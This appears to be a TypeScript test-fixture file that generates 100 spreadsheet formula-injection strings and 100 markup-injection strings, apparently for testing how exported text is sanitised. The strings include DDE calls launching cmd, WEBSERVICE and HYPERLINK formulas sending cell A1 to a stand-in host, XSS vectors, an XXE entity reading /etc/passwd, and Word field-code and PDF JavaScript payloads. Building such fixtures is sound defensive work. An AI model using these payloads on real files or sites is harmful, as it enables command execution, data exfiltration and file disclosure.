const begins = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '＝',
  '＋',
  '－',
  '＠',
  '\u00A0=',
  '\u3000=',
  '\uFEFF=',
  "'=",
];
const bodies = [
  'HYPERLINK("http://ond.invalid?x="&A1;"Klikk her")',
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  'WEBSERVICE("http://ond.invalid/"&A1)',
  'IMPORTXML("http://ond.invalid";"//a")',
  '1+1+cmd|"/c calc"!A1',
  "SUM(1+1)*cmd|' /C calc'!A0",
];

/** A hundred texts that a spreadsheet may take for something to reckon or to fetch; each ends in a word of its own. */
export const formulas: readonly string[] = Array.from({ length: 100 }, (_, index) => {
  const begin = begins[index % begins.length] ?? '=';
  return `${begin}${bodies[index % bodies.length] ?? ''} formel${index.toString()}x`;
});

const markups = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onfocus=alert(1) autofocus='",
  '</style><svg onload=alert(1)>',
  '</title></head><body onload=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)',
  '<![CDATA[<script>alert(1)</script>]]>',
  ']]><script>alert(1)</script>',
  '<!--><script>alert(1)</script-->',
  '--!><img src=x onerror=alert(1)>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '<?xml version="1.0"?><?php system(1) ?>',
  '</w:t></w:r><w:fldSimple w:instr="DDEAUTO c cmd"/>',
  '</w:t><w:instrText>INCLUDETEXT "http://ond.invalid"</w:instrText>',
  '</t></is></c><c t="str"><f>1+1</f></c>',
  '</text><a xlink:href="javascript:alert(1)">x</a>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<math><mtext><style><img src=x onerror=alert(1)>',
  '\u202E<script>\u2066',
  '\u200F\u061C<b>',
  '＜script＞alert(1)',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '(x) Tj ET /JavaScript << /S /JavaScript /JS (app.alert(1)) >>',
  ') >> endobj 9 0 obj << /OpenAction',
  '_x003C_script_x003E_',
  '<x\u2028onclick=alert(1)>',
];

/** A hundred texts that may be taken for markup of a page or of an Office file, or for objects of a PDF. */
export const markup: readonly string[] = Array.from(
  { length: 100 },
  (_, index) => `${markups[index % markups.length] ?? ''} merke${index.toString()}x`,
);
